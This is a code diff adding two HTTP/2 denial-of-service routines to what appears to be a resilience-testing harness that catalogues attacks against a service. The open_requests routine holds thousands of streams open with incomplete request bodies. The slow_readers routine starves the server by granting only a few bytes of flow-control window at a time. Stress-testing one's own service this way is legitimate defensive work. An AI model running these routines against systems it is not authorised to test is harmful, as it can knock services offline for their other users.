@@ -231,6 +231,39 @@ async def client(target, name, **options):
     return made
 
 
+def bearer(target):
+    return [("authorization", "Bearer " + pathlib.Path(target["token"]).read_text().strip())]
+
+
+@attack(NEIGHBOURS, "10,000 requests of one token over HTTP/2 that never come whole, on 100 connections")
+def open_requests(target):
+    def run():
+        with dial(target) as c:
+            pour(c, PREFACE + frame(SETTINGS, 0, 0))
+            for n in range(1, 200, 2):
+                pour(c, headers(n, "POST", "/v1/publish/a", 0, bearer(target)) +
+                     frame(DATA, 0, n, bytes(100)))
+            c.setblocking(True)
+            c.settimeout(60)
+            while c.recv(65536):  # alive, and nothing more
+                pass
+    repeat(run, 100)
+
+
+@attack(NEIGHBOURS, "10,000 large answers to one token over HTTP/2, of which few bytes are taken at a time")
+def slow_readers(target):
+    def run():
+        with dial(target, receive_buffer=4096) as c:
+            c.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+            for n in range(1, 200, 2):
+                c.sendall(headers(n, "GET", "/v1/openapi.json", 1, bearer(target)))
+            while True:
+                for n in range(1, 200, 2):
+                    c.sendall(frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 8)))
+                time.sleep(1)
+    repeat(run, 100)
+
+
 @attack(NEIGHBOURS, "messages of 10,000 equal tags beside 1,000 filters that ask for them")
 @neighbour
 async def tag_bomb(target):
